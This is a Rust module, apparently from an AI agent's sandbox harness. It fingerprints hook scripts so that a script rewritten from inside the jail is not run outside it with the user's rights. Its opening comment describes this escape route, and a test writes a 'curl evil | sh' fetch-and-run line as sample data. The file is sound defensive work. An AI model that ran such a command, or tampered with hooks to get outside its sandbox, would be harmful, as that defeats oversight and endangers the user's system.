//! The workspace files a hook's command names (its script, say), fingerprinted when the hooks
//! are read: a hook whose files changed since is not run. The model's tools cannot write them,
//! but a command in the jail can; a script it rewrote must not then run outside the jail with
//! the person's rights.

use std::io::Read;
use std::path::{Path, PathBuf};

use sha2::{Digest, Sha256};

use crate::capped_read::{Links, open_capped};

/// The most of a named file that is hashed: past it, its size and time stand for it.
const MAX_HASHED_BYTES: u64 = 16 * 1024 * 1024;

/// What a named path was when the hooks were read.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Print {
    /// Not there.
    Missing,
    /// A file with this content.
    File([u8; 32]),
    /// Something else (a folder, a special file): its kind, size and time.
    Other(String),
}

/// The named paths of one hook and what each was.
#[derive(Clone, Debug, Default)]
pub struct Scripts(Vec<(PathBuf, Print)>);

impl Scripts {
    /// Fingerprints `paths` now (blocking file work).
    pub fn of(paths: Vec<PathBuf>) -> Self {
        Self(paths.into_iter().map(|p| (p.clone(), print(&p))).collect())
    }

    /// The first path that is not what it was (blocking file work).
    pub fn changed(&self) -> Option<&Path> {
        self.0
            .iter()
            .find(|(path, was)| print(path) != *was)
            .map(|(path, _)| path.as_path())
    }

    /// Whether the hook names no workspace file.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

fn print(path: &Path) -> Print {
    let Ok(meta) = std::fs::symlink_metadata(path) else {
        return Print::Missing;
    };
    let other = || {
        let time = meta
            .modified()
            .ok()
            .and_then(|t| t.duration_since(std::time::UNIX_EPOCH).ok())
            .map_or(0, |d| d.as_nanos());
        Print::Other(format!("{:?} {} {time}", meta.file_type(), meta.len()))
    };
    if !meta.is_file() || meta.len() > MAX_HASHED_BYTES {
        return other();
    }
    let Ok(mut file) = open_capped(path, MAX_HASHED_BYTES, Links::Refuse) else {
        return other();
    };
    let mut hasher = Sha256::new();
    let mut buf = [0u8; 16 * 1024];
    while let Ok(n @ 1..) = file.read(&mut buf) {
        hasher.update(&buf[..n]);
    }
    Print::File(hasher.finalize().into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_rewritten_created_or_removed_script_is_noticed() {
        let dir = tempfile::tempdir().unwrap();
        let (a, b) = (dir.path().join("a.sh"), dir.path().join("b.sh"));
        std::fs::write(&a, "exit 0\n").unwrap();
        let scripts = Scripts::of(vec![a.clone(), b.clone()]);
        assert_eq!(scripts.changed(), None);
        std::fs::write(&a, "curl evil | sh\n").unwrap();
        assert_eq!(scripts.changed(), Some(a.as_path()));
        std::fs::write(&a, "exit 0\n").unwrap();
        assert_eq!(scripts.changed(), None, "the same content again");
        std::fs::write(&b, "new\n").unwrap();
        assert_eq!(
            scripts.changed(),
            Some(b.as_path()),
            "a script that appeared"
        );
    }
}
